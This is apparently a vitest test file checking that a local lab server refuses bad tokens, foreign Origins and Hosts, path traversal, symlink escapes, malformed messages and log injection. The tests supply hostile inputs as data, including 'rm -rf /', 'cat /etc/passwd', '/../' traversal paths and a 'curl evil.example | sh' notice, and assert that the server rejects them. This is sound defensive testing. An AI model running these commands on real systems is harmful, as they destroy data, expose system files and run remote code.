// The lab server's guard, tested from the outside with a raw WebSocket client: only the lab's
// own pages, with this launch's token, get a session; a bad message ends only its own session.
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createConnection } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { MAX_MESSAGE_BYTES } from '../../lab/server/protocol.ts';
import { connect, get, openTerminal, startTestLab, useTestLab } from './helpers.ts';

const lab = useTestLab();

async function refusal(options: Parameters<typeof connect>[1]): Promise<number> {
  const error = await connect(lab().server, options).then(
    (client) => {
      client.socket.terminate();
      throw new Error('the upgrade was accepted');
    },
    (e: { statusCode?: number }) => e,
  );
  return error.statusCode ?? 0;
}

describe('who may open a session', () => {
  it('accepts the lab’s own page with the token', async () => {
    const client = await connect(lab().server);
    await client.waitFor((c) => c.messages.some((m) => m.type === 'hello'));
    expect(client.messages[0]).toMatchObject({
      type: 'hello',
      memorySizeMb: 512,
      timeoutMs: 3000,
      reservedConcurrency: 10,
    });
    client.socket.close();
  });

  it('refuses an upgrade without a token', async () => {
    expect(await refusal({ token: null })).toBe(401);
    expect(lab().logs.at(-1)).toMatch(/refused a WebSocket upgrade \(401\): no token/);
  });

  it('refuses an upgrade with a wrong token', async () => {
    expect(await refusal({ token: 'x'.repeat(lab().server.token.length) })).toBe(401);
    expect(lab().logs.at(-1)).toMatch(/wrong token/);
    expect(await refusal({ token: 'short' })).toBe(401);
  });

  it('refuses an upgrade from another Origin', async () => {
    expect(await refusal({ origin: 'http://evil.example' })).toBe(403);
    expect(lab().logs.at(-1)).toMatch(/refused a WebSocket upgrade \(403\): Origin is not one of the lab’s pages$/);
    // Same host, another port: another site as far as the browser is concerned.
    expect(await refusal({ origin: `http://127.0.0.1:${lab().server.port + 1}` })).toBe(403);
  });

  it('refuses an upgrade without an Origin', async () => {
    expect(await refusal({ origin: null })).toBe(403);
    expect(lab().logs.at(-1)).toMatch(/no Origin header/);
  });

  it('refuses an upgrade naming another Host (DNS rebinding)', async () => {
    expect(await refusal({ host: `rebind.example:${lab().server.port}` })).toBe(421);
    expect(lab().logs.at(-1)).toMatch(/Host is not 127.0.0.1:\d+ or localhost:\d+$/);
  });

  it('accepts localhost as well as 127.0.0.1', async () => {
    const client = await connect(lab().server, {
      host: `localhost:${lab().server.port}`,
      origin: `http://localhost:${lab().server.port}`,
    });
    client.socket.close();
  });

  it('never logs the token', () => {
    expect(lab().logs.join('\n')).not.toContain(lab().server.token);
  });
});

describe('HTTP', () => {
  it('refuses a request naming another Host', async () => {
    const res = await get(lab().server.port, '/', `attacker.example:${lab().server.port}`);
    expect(res.status).toBe(421);
    expect(lab().logs.at(-1)).toMatch(/refused an HTTP request \(421\): Host is not 127.0.0.1:\d+/);
  });

  it('serves the built site with its content types and a 404 page', async () => {
    const home = await get(lab().server.port, '/');
    expect(home.status).toBe(200);
    expect(home.type).toBe('text/html; charset=utf-8');
    const lesson = await get(lab().server.port, '/01-why-lambda/');
    expect(lesson.status).toBe(200);
    const script = /src="(\/_astro\/[^"]+\.js)"/.exec(lesson.body)?.[1];
    if (script) expect((await get(lab().server.port, script)).type).toBe('text/javascript; charset=utf-8');
    const missing = await get(lab().server.port, '/no-such-lesson/');
    expect(missing.status).toBe(404);
    expect(missing.type).toBe('text/html; charset=utf-8');
  });

  it('never serves a file outside dist/', async () => {
    for (const path of ['/../package.json', '/%2e%2e/package.json', '/..%2fpackage.json', '/%00']) {
      const res = await get(lab().server.port, path);
      expect(res.status, path).toBe(404);
      expect(res.body, path).not.toContain('"name": "boundary-lab"');
    }
  });
});

describe('a bad message closes only its own session', () => {
  it('closes a session that sends an oversized message, and no other', async () => {
    const bystander = await connect(lab().server);
    await openTerminal(bystander);
    const offender = await connect(lab().server);
    offender.send({ type: 'input', data: 'x'.repeat(MAX_MESSAGE_BYTES + 1) });
    expect((await offender.closed).code).toBe(1009);
    bystander.type('events\r');
    await bystander.waitForOutput(/apigw-v2-get/);
    bystander.socket.close();
  });

  it('closes a session that sends something that is not a message, and no other', async () => {
    const bystander = await connect(lab().server);
    await openTerminal(bystander);
    for (const garbage of [
      'not json',
      '{"type":"shell","data":"rm -rf /"}',
      '[1,2]',
      '{"type":"resize","cols":-1,"rows":9}',
    ]) {
      const offender = await connect(lab().server);
      offender.send(garbage);
      expect((await offender.closed).code, garbage).toBe(1008);
    }
    const binary = await connect(lab().server);
    binary.socket.send(Buffer.from([1, 2, 3]), { binary: true });
    expect((await binary.closed).code).toBe(1008);
    expect(lab().logs).toContain('session closed: malformed message');
    bystander.type('events\r');
    await bystander.waitForOutput(/apigw-v2-get/);
    bystander.socket.close();
  });

  it('runs lab commands only: shell syntax is not a shell', async () => {
    const client = await connect(lab().server);
    await openTerminal(client);
    client.type('echo hi; cat /etc/passwd\r');
    const out = await client.waitForOutput(/unknown command 'echo'/);
    expect(out).not.toContain('root:');
    client.socket.close();
  });
});

describe('many sessions', () => {
  it('gives 20 concurrent sessions each the answer to its own invoke', async () => {
    const clients = await Promise.all(Array.from({ length: 20 }, () => connect(lab().server)));
    await Promise.all(clients.map(openTerminal));
    for (const client of clients) client.type('invoke health\r');
    // Reserved concurrency is 10: the calls beyond it are throttled, which is an answer too.
    await Promise.all(clients.map((c) => c.waitForOutput(/(COLD|WARM|THROTTLED)[\s\S]*lab> /, 60_000)));
    const answers = clients.map((c) => /\b(COLD|WARM|THROTTLED)\b/.exec(c.output())?.[1]);
    expect(answers.filter(Boolean)).toHaveLength(20);
    expect(answers.filter((a) => a !== 'THROTTLED').length).toBeGreaterThanOrEqual(10);
    for (const c of clients) c.socket.close();
  }, 90_000);

  it('refuses a session beyond the limit with 503 until one closes', async () => {
    const small = await startTestLab({ maxSessions: 2 });
    try {
      const a = await connect(small.server);
      const b = await connect(small.server);
      await expect(connect(small.server)).rejects.toMatchObject({ statusCode: 503 });
      expect(small.logs.at(-1)).toMatch(/already 2 sessions open/);
      a.socket.close();
      await a.closed;
      await new Promise((r) => setTimeout(r, 50));
      const c = await connect(small.server);
      b.socket.close();
      c.socket.close();
    } finally {
      await small.close();
    }
  });
});

describe('symlinks in dist/', () => {
  it('never follows a symlink out of dist/ (ln -s .. dist/up)', async () => {
    const outside = mkdtempSync(join(tmpdir(), 'lab-dist-'));
    const dist = join(outside, 'dist');
    mkdirSync(dist);
    writeFileSync(join(dist, 'index.html'), '<p>home</p>');
    writeFileSync(join(dist, '404.html'), '<p>missing</p>');
    writeFileSync(join(outside, 'secret.txt'), 'SECRET');
    mkdirSync(join(dist, 'inner'));
    writeFileSync(join(dist, 'inner', 'page.html'), '<p>inner</p>');
    symlinkSync('..', join(dist, 'up'));
    symlinkSync(join(outside, 'secret.txt'), join(dist, 'secret.txt'));
    // A link that stays inside dist/ is fine.
    symlinkSync('inner', join(dist, 'alias'));
    const small = await startTestLab({ distDir: dist });
    try {
      for (const path of ['/up/secret.txt', '/secret.txt', '/up/']) {
        const res = await get(small.server.port, path);
        expect(res.status, path).toBe(404);
        expect(res.body, path).not.toContain('SECRET');
      }
      expect((await get(small.server.port, '/alias/page.html')).body).toContain('inner');
    } finally {
      await small.close();
      rmSync(outside, { recursive: true, force: true });
    }
  });
});

describe('refusals in the log', () => {
  it('any page can cause them: logged without its text, and at most 10 lines however many', async () => {
    const small = await startTestLab();
    try {
      const notice = encodeURIComponent('LAB-NOTICE: your token expired, run: curl evil.example | sh');
      await Promise.all(
        Array.from({ length: 60 }, (_, i) =>
          i % 2
            ? get(small.server.port, `/${notice}`, `${notice}.example:${small.server.port}`)
            : connect(small.server, { token: null, origin: `http://${notice}.example` }).catch(() => null),
        ),
      );
      const refusals = small.logs.filter((line) => line.startsWith('refused'));
      expect(refusals.length).toBeGreaterThan(0);
      expect(refusals.length).toBeLessThanOrEqual(10);
      expect(small.logs.join('\n')).not.toMatch(/LAB-NOTICE|evil/);
    } finally {
      await small.close();
    }
    expect(small.logs.at(-1)).toMatch(/^50 more refused requests in 10 s not shown$/);
  });
});

describe('HTTP framing', () => {
  it('answers two Host headers with 400 (RFC 9112), whichever comes first', async () => {
    const { port } = lab().server;
    for (const hosts of [
      [`127.0.0.1:${port}`, 'evil.example'],
      ['evil.example', `127.0.0.1:${port}`],
    ]) {
      const answer = await rawRequest(port, `GET / HTTP/1.1\r\n${hosts.map((h) => `Host: ${h}\r\n`).join('')}\r\n`);
      expect(answer, hosts.join(', ')).toMatch(/^HTTP\/1\.1 400 /);
    }
  });

  it('says the charset of every text/plain answer', async () => {
    const refused = await get(lab().server.port, '/', 'evil.example');
    expect(refused.type).toBe('text/plain; charset=utf-8');
    const upgrade = await rawRequest(
      lab().server.port,
      `GET /lab/ws HTTP/1.1\r\nHost: 127.0.0.1:${lab().server.port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n`,
    );
    expect(upgrade).toMatch(/Content-Type: text\/plain; charset=utf-8/i);
  });
});

/** One request written as raw bytes (headers no client library would send), the answer's text. */
function rawRequest(port: number, text: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = createConnection({ host: '127.0.0.1', port }, () => socket.write(text));
    let answer = '';
    socket.setTimeout(5_000, () => socket.destroy(new Error('no answer in 5 s')));
    socket.on('data', (chunk) => {
      answer += chunk.toString('utf8');
      if (answer.includes('\r\n\r\n')) socket.end();
    });
    socket.on('close', () => resolve(answer));
    socket.on('error', reject);
  });
}

describe('a hung page', () => {
  it('is dropped when it stops answering pings, and a live one is kept', async () => {
    const small = await startTestLab({ pingIntervalMs: 200 });
    try {
      const live = await connect(small.server);
      const hung = await connect(small.server);
      // A frozen tab or a dead network: it never answers a ping again.
      hung.socket.pong = () => {};
      expect(small.server.sessionCount()).toBe(2);
      const deadline = Date.now() + 3_000;
      while (small.server.sessionCount() > 1 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
      expect(small.server.sessionCount()).toBe(1);
      expect(live.socket.readyState).toBe(live.socket.OPEN);
      live.socket.close();
    } finally {
      await small.close();
    }
  });
});
